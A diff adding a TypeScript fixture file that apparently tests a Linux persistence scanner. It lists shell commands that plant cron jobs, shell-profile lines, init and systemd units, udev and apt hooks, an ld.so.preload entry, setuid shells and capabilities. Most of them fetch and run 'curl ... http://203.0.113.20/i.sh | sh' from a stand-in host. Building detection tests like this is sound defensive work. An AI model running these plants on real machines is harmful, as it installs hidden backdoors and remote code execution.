@@ -1,0 +1,148 @@
+/** One way of staying, as a shell text that sets it up, and what a scan must find it by. Nothing of it does anything. */
+export interface Plant {
+  readonly name: string;
+  readonly plant: string;
+  /** Paths of the files that its findings are about. */
+  readonly paths: readonly string[];
+  /** Only where systemd runs as process 1. */
+  readonly needsSystemd?: true;
+  readonly unit?: string;
+}
+
+const FETCH = 'curl -fsSL http://203.0.113.20/i.sh | sh';
+const DROPPED = '/var/tmp/.x11/kworkerds';
+/** What entries start: a script that waits and ends by itself. */
+const DROP = `mkdir -p /var/tmp/.x11; printf '#!/bin/sh\\nexec sleep 900\\n' >${DROPPED}; chmod 755 ${DROPPED}`;
+
+/** Written as an administrator might have, with all that an undo must bring back: owner, odd mode, old time, ACL, attribute. */
+function write(path: string, text: string, mode = '644'): string {
+  const folder = path.slice(0, path.lastIndexOf('/'));
+  return `mkdir -p ${folder}; printf '%s\\n' ${quoted(text)} >${path}; chmod ${mode} ${path}
+setfattr -n user.mark -v kept ${path}; setfacl -m u:12345:r ${path}; chmod ${mode} ${path}; touch -d @1600000000.123456789 ${path}`;
+}
+
+function append(path: string, text: string): string {
+  return `printf '%s\\n' ${quoted(text)} >>${path}; touch -d @1600000001.5 ${path}`;
+}
+
+function quoted(text: string): string {
+  return `'${text.replaceAll("'", `'\\''`)}'`;
+}
+
+const unit = (name: string, text: string, wants: string): string =>
+  `${write(`/etc/systemd/system/${name}`, text)}
+mkdir -p /etc/systemd/system/${wants}.wants; ln -sf ../${name} /etc/systemd/system/${wants}.wants/${name}`;
+const SERVICE = `[Unit]\nDescription=D-Bus\n[Service]\nExecStart=${DROPPED}\nRestart=always\n[Install]\nWantedBy=multi-user.target`;
+
+export const PLANTS: readonly Plant[] = [
+  {
+    name: 'a file in cron.d',
+    paths: ['/etc/cron.d/perfclean'],
+    plant: write('/etc/cron.d/perfclean', `* * * * * root ${FETCH}`, '600'),
+  },
+  {
+    name: 'a line in the crontab of root, among others',
+    paths: ['/var/spool/cron/crontabs/root'],
+    plant: write(
+      '/var/spool/cron/crontabs/root',
+      `0 3 * * * /usr/bin/true\n*/5 * * * * ${FETCH}\n0 4 * * * /usr/bin/false`,
+      '600',
+    ),
+  },
+  {
+    name: 'a line in /etc/crontab',
+    paths: ['/etc/crontab'],
+    plant: append('/etc/crontab', `*/7 * * * * root ${FETCH}`),
+  },
+  {
+    name: 'a script in cron.hourly',
+    paths: ['/etc/cron.hourly/logs'],
+    plant: write('/etc/cron.hourly/logs', `#!/bin/sh\n${FETCH}`, '755'),
+  },
+  {
+    name: 'an immutable file in cron.d',
+    paths: ['/etc/cron.d/stays'],
+    plant: `${write('/etc/cron.d/stays', `* * * * * root ${FETCH}`)}; chattr +i /etc/cron.d/stays`,
+  },
+  {
+    name: 'a line in the profile of root',
+    paths: ['/root/.bashrc'],
+    plant: append('/root/.bashrc', `(${FETCH}) >/dev/null 2>&1 &`),
+  },
+  {
+    name: 'a script in profile.d',
+    paths: ['/etc/profile.d/lang.sh'],
+    plant: write('/etc/profile.d/lang.sh', FETCH),
+  },
+  {
+    name: 'rc.local',
+    paths: ['/etc/rc.local'],
+    plant: write('/etc/rc.local', `#!/bin/sh\n${FETCH}\nexit 0`, '755'),
+  },
+  {
+    name: 'an init script',
+    paths: ['/etc/init.d/sysupdate'],
+    plant: write('/etc/init.d/sysupdate', `#!/bin/sh\n${FETCH}`, '755'),
+  },
+  {
+    name: 'a udev rule',
+    paths: ['/etc/udev/rules.d/99-disk.rules'],
+    plant: write('/etc/udev/rules.d/99-disk.rules', `ACTION=="add", RUN+="/bin/sh -c '${FETCH}'"`),
+  },
+  {
+    name: 'a message of the day',
+    paths: ['/etc/update-motd.d/99-news'],
+    plant: write('/etc/update-motd.d/99-news', `#!/bin/sh\n${FETCH}`, '755'),
+  },
+  {
+    name: 'a desktop autostart',
+    paths: ['/etc/xdg/autostart/sync.desktop'],
+    plant: write(
+      '/etc/xdg/autostart/sync.desktop',
+      `[Desktop Entry]\nType=Application\nExec=/bin/sh -c "${FETCH}"`,
+    ),
+  },
+  {
+    name: 'a hook of apt',
+    paths: ['/etc/apt/apt.conf.d/99sync'],
+    plant: write('/etc/apt/apt.conf.d/99sync', `APT::Update::Pre-Invoke {"${FETCH}";};`),
+  },
+  {
+    name: 'a unit that is enabled',
+    paths: ['/etc/systemd/system/dbus-0rg.service', DROPPED],
+    unit: 'dbus-0rg.service',
+    plant: `${DROP}; ${unit('dbus-0rg.service', SERVICE, 'multi-user.target')}`,
+  },
+  {
+    name: 'a unit that runs',
+    paths: ['/etc/systemd/system/netd-sync.service'],
+    unit: 'netd-sync.service',
+    needsSystemd: true,
+    plant: `${DROP}; ${unit('netd-sync.service', SERVICE, 'multi-user.target')}; systemctl daemon-reload; systemctl start netd-sync.service`,
+  },
+  {
+    name: 'a timer that runs',
+    paths: ['/etc/systemd/system/netd-time.timer', '/etc/systemd/system/netd-time.service'],
+    unit: 'netd-time.timer',
+    needsSystemd: true,
+    plant: `${write('/etc/systemd/system/netd-time.service', `[Service]\nType=oneshot\nExecStart=/bin/sh -c '${FETCH}'`)}
+${unit('netd-time.timer', '[Timer]\nOnUnitActiveSec=1d\nOnActiveSec=1d\n[Install]\nWantedBy=timers.target', 'timers.target')}
+systemctl daemon-reload; systemctl start netd-time.timer`,
+  },
+  {
+    name: 'a preloaded library',
+    paths: ['/etc/ld.so.preload'],
+    plant: `cp /usr/lib/*/libdl.so.2 /usr/local/lib/libproc.so; touch -d @1600000000.5 /usr/local/lib/libproc.so\n${write('/etc/ld.so.preload', '/usr/local/lib/libproc.so')}`,
+  },
+  {
+    name: 'a shell with a set-id bit',
+    paths: ['/usr/local/bin/.sysd'],
+    plant: `cp /bin/dash /usr/local/bin/.sysd; chmod 4755 /usr/local/bin/.sysd; touch -d @1600000000.25 /usr/local/bin/.sysd`,
+  },
+  { name: 'a set-id bit on a packaged program', paths: ['/usr/bin/find'], plant: 'chmod u+s /usr/bin/find' },
+  {
+    name: 'a capability on a packaged program',
+    paths: ['/usr/bin/perl'],
+    plant: 'setcap cap_setuid=ep /usr/bin/perl',
+  },
+];
